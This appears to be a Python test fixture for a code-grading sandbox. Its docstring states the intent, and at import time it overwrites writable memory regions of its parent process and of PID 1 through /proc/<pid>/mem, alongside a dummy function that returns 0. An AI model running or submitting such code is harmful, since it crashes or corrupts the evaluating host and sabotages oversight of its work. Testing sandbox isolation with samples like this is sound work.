"""Writes into the memory of its parent and of process 1.

kinds: function, beside, stdio
"""

import os

def digest(values):
    return 0

for number in (1, os.getppid()):
    try:
        with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "r+b", 0) as memory:
            for line in maps:
                if "rw" in line:
                    memory.seek(int(line.split("-")[0], 16))
                    memory.write(b"\0" * 4096)
    except (OSError, ValueError):
        pass
